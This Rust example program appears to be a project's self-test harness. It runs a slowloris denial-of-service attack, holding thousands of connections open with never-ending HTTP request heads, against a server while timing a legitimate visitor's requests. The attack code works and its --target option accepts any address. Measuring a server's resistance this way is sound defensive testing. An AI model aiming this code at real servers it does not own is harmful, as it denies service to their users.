//! A slowloris attack and a visitor timing it, for `scripts/slowloris.sh`.
//!
//! Opens `--connections` connections to `--target` from the loopback
//! addresses `127.0.0.2` onwards (`--addresses` of them, round robin), each
//! sending a request head that never ends, one byte every 2 s; a connection
//! the server closes is opened again at its next tick, as attack tools do.
//! Meanwhile a visitor from `127.0.0.1` requests `/healthz` and `/call/...`
//! on fresh connections every 100 ms. After `--seconds` it prints the
//! visitor's latency (p50, p99, max, failures) and what the attack achieved.
//!
//! Usage: `cargo run --release --example slowloris -- --target 127.0.0.1:8080
//! [--connections 5000] [--addresses 1] [--seconds 20]`

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{bail, Context as _};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout, Instant};

/// The attack's pace: one byte of the endless head per tick.
const TICK: Duration = Duration::from_secs(2);
/// The visitor's pace.
const VISIT_EVERY: Duration = Duration::from_millis(100);

struct Options {
    target: SocketAddr,
    connections: usize,
    addresses: u32,
    seconds: u64,
}

fn options() -> anyhow::Result<Options> {
    let mut options = Options {
        target: ([127, 0, 0, 1], 8080).into(),
        connections: 5000,
        addresses: 1,
        seconds: 20,
    };
    let mut args = std::env::args().skip(1);
    while let Some(flag) = args.next() {
        let value = args.next().with_context(|| format!("{flag} needs a value"))?;
        match flag.as_str() {
            "--target" => options.target = value.parse().context("--target: an address like 127.0.0.1:8080")?,
            "--connections" => options.connections = value.parse().context("--connections: a number")?,
            "--addresses" => options.addresses = value.parse().context("--addresses: a number")?,
            "--seconds" => options.seconds = value.parse().context("--seconds: a number")?,
            _ => bail!("unknown option {flag}"),
        }
    }
    if options.addresses == 0 || options.addresses > 250 {
        bail!("--addresses must be between 1 and 250 (127.0.0.2 to 127.0.0.251)");
    }
    Ok(options)
}

#[derive(Default)]
struct AttackStats {
    connects: AtomicU64,
    closed_by_server: AtomicU64,
    open: AtomicUsize,
    most_open: AtomicUsize,
}

async fn connect_from(source: Ipv4Addr, target: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((source, 0).into())?;
    timeout(Duration::from_secs(5), socket.connect(target))
        .await
        .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))?
}

/// One attacking connection slot, kept open (or reopened) until `end`.
async fn attack(source: Ipv4Addr, target: SocketAddr, end: Instant, stats: Arc<AttackStats>) {
    let head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ";
    while Instant::now() < end {
        let Ok(mut stream) = connect_from(source, target).await else {
            sleep(TICK).await;
            continue;
        };
        stats.connects.fetch_add(1, Ordering::Relaxed);
        let open = stats.open.fetch_add(1, Ordering::Relaxed) + 1;
        stats.most_open.fetch_max(open, Ordering::Relaxed);
        let mut sent = 0;
        let mut buf = [0u8; 512];
        loop {
            let byte = head.get(sent).copied().unwrap_or(b'a');
            if stream.write_all(&[byte]).await.is_err() {
                break;
            }
            sent += 1;
            tokio::select! {
                () = sleep(TICK) => {}
                // The server closing (or answering) ends this connection.
                _ = stream.read(&mut buf) => {
                    stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
                    sleep(TICK).await;
                    break;
                }
            }
            if Instant::now() >= end {
                break;
            }
        }
        stats.open.fetch_sub(1, Ordering::Relaxed);
    }
}

/// One request on a fresh connection; the time to the whole response.
async fn visit(target: SocketAddr, path: &str) -> Option<Duration> {
    let started = Instant::now();
    let exchange = async {
        let mut stream = connect_from(Ipv4Addr::LOCALHOST, target).await.ok()?;
        let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        stream.write_all(request.as_bytes()).await.ok()?;
        let mut response = Vec::new();
        stream.read_to_end(&mut response).await.ok()?;
        response.starts_with(b"HTTP/1.1 200").then_some(())
    };
    timeout(Duration::from_secs(60), exchange).await.ok().flatten()?;
    Some(started.elapsed())
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let rank = ((sorted.len() as f64 * p).ceil() as usize).clamp(1, sorted.len());
    sorted[rank - 1]
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let options = options()?;
    let end = Instant::now() + Duration::from_secs(options.seconds);
    let stats = Arc::new(AttackStats::default());
    let attackers: Vec<_> = (0..options.connections)
        .map(|i| {
            let source = Ipv4Addr::new(127, 0, 0, 2 + (i as u32 % options.addresses) as u8);
            tokio::spawn(attack(source, options.target, end, Arc::clone(&stats)))
        })
        .collect();

    // Let the attack build up before timing the visitor.
    sleep(TICK).await;
    let mut latencies = Vec::new();
    let mut failures = 0u32;
    let mut n = 0u64;
    while Instant::now() < end {
        n += 1;
        let path = if n % 2 == 0 {
            "/healthz".to_owned()
        } else {
            format!("/call/slowloris-{n}")
        };
        match visit(options.target, &path).await {
            Some(took) => latencies.push(took),
            None => failures += 1,
        }
        sleep(VISIT_EVERY).await;
    }
    let open_at_end = stats.open.load(Ordering::Relaxed);
    for attacker in attackers {
        attacker.abort();
    }

    latencies.sort();
    let ms = |d: Duration| d.as_secs_f64() * 1000.0;
    println!(
        "visitor: {} answered, {failures} failed; p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
        latencies.len(),
        ms(percentile(&latencies, 0.50)),
        ms(percentile(&latencies, 0.99)),
        ms(latencies.last().copied().unwrap_or_default()),
    );
    println!(
        "attack: {} connections from {} address(es); {} connects, {} closed by the server, \
         at most {} open at once, {open_at_end} open at the end",
        options.connections,
        options.addresses,
        stats.connects.load(Ordering::Relaxed),
        stats.closed_by_server.load(Ordering::Relaxed),
        stats.most_open.load(Ordering::Relaxed),
    );
    Ok(())
}
